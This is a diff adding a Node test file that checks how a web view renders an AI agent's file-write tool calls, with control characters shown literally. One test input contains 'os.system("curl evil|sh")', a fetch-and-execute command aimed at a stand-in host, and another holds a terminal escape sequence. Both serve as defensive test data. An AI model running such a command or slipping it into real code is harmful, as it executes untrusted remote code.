@@ -1,0 +1,34 @@
+// node --test web/calls_test.mjs
+
+import assert from 'node:assert/strict';
+import test from 'node:test';
+
+globalThis.document = { createTreeWalker() {}, createComment() {} }; // for lit-html, which draws nothing here
+globalThis.sessionStorage = { getItem: () => null };
+const { drawCall } = await import('./views/calls.js');
+const { Log } = await import('./views/log.js');
+
+/** The text of a template whose values have no markup. */
+const textOf = (t) => markupOf(t).replace(/<[^>]*>/g, '');
+const markupOf = (t) => Array.isArray(t) ? t.map(markupOf).join('') : t?.strings ? t.strings.map((s, i) => s + markupOf(t.values[i])).join('')
+  : typeof t === 'string' || typeof t === 'number' ? String(t) : '';
+const log = new Log({ changed() {} }, { id: 'C', following: false }, {});
+const draw = (args) => textOf(drawCall(log, { id: 'c', tool: 'write', args, progress: '', children: [] }, 'T'));
+
+test('what is written to a file is shown as it is, and not as a terminal would show it', () => {
+  for (const [content, want] of [
+    ['import os; os.system("curl evil|sh")\rprint("hi")', /\+ import os; os\.system\("curl evil\|sh"\)\[U\+000D\]print\("hi"\)/],
+    ['a\n\x1b]evil\nmore', /\+ a\+ \[U\+001B\]\]evil\+ more/],
+    ['x\n'.repeat(30_000), /… 20,000 characters more/],
+  ]) {
+    assert.match(draw({ file_path: 'a.py', content }), /a\.py/);
+    log.shown.set('T/c/args', 1e6);
+    assert.match(draw({ file_path: 'a.py', content }), want);
+    assert.match(draw({ file_path: 'a.py', old_string: '', new_string: content }), want);
+  }
+});
+
+test('a diff is made again when the texts are others of the same length', () => {
+  assert.match(draw({ file_path: 'a', content: 'one' }), /\+ one/);
+  assert.match(draw({ file_path: 'a', content: 'two' }), /\+ two/);
+});
